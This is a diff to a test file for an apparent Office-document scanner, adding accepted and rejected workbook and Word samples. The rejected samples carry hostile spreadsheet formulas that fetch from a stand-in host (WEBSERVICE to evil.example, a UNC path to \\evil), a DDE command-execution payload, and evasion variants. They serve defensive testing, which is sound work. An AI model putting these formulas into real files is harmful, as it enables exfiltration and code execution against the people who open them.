@@ -10,6 +10,7 @@ from tests.word_files import (
     LETTER,
     MIB,
     Member,
+    complex_field,
     deflated,
     deflated_blocks,
     deflated_zeros,
@@ -89,6 +90,21 @@ GOOD_FILES = {
     ),
     "a template": ("letter.dotx", lambda: template().packed()),
     "a workbook": ("prices.xlsx", plain_xlsx),
+    "a workbook with plain formulas": (
+        "prices.xlsx",
+        lambda: with_formula("SUM(Table1[Price],IF(A1&lt;2,Sheet1!B2,'My sheet'!C3))&amp;&quot;a|b&quot;"),
+    ),
+    "a document with a link to a mail and to a file beside it": (
+        "letter.docx",
+        lambda: (
+            word()
+            .relate("hyperlink", "mailto:info@example.com?subject=a:b", external=True)
+            .relate("hyperlink", "prices.xlsx", external=True)
+            .write(complex_field(' HYPERLINK "https://example.com/a?b=c:d" '))
+            .write(complex_field(' HYPERLINK \\l "top" '))
+            .packed()
+        ),
+    ),
     "a large workbook": (
         "prices.xlsx",
         lambda: workbook().put("xl/worksheets/a.xml", f"<a>{'<row><c/></row>' * 9000}</a>").packed(),
@@ -137,6 +153,15 @@ def follows(name, signature=b""):
     return Member(name, data, flags=0x8, descriptor=signature + sizes)
 
 
+def with_formula(formula, more=""):
+    sheet = workbook().parts["xl/worksheets/sheet1.xml"].decode()
+    row = f'<row r="9"><c r="A9"><f>{formula}</f><v>1</v></c></row>{more}'
+    changed = sheet.replace("<sheetData/>", "<sheetData></sheetData>").replace(
+        "</sheetData>", f"{row}</sheetData>"
+    )
+    return workbook().put("xl/worksheets/sheet1.xml", changed).packed()
+
+
 BAD_FILES = {
     "nothing": ("empty", "letter.docx", lambda: b""),
     "a large file": ("too_large", "letter.txt", lambda: b"x" * (MAX_BYTES + 1)),
@@ -178,6 +203,31 @@ BAD_FILES = {
         "external",
         "prices.xlsx",
         lambda: workbook().relate("externalLink", "externalLinks/externalLink1.xml").packed(),
+    ),
+    **{
+        f"a workbook that fetches with {formula}": (
+            "fetching_formula",
+            "prices.xlsx",
+            lambda formula=formula: with_formula(formula),
+        )
+        for formula in (
+            "_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;)",
+            "_xlfn.web&#x73;ervice (A1)",
+            "_xlfn.IMAGE(A1)",
+            "1+RTD(&quot;evil&quot;,,A1)",
+            "'\\\\evil\\[prices.xlsx]Sheet1'!A1",
+            "cmd|'/c calc'!A0",
+        )
+    },
+    "a workbook that fetches with a formula beyond the first megabyte": (
+        "fetching_formula",
+        "prices.xlsx",
+        lambda: with_formula("1", "<row/>" * 200_000 + "<f>_xlfn.WEBSERVICE(A1)</f>"),
+    ),
+    "a workbook with a remark in a formula": (
+        "packing",
+        "prices.xlsx",
+        lambda: with_formula("_xlfn.WEB<!-- -->SERVICE(A1)"),
     ),
     "a workbook with a document type": (
         "doctype",
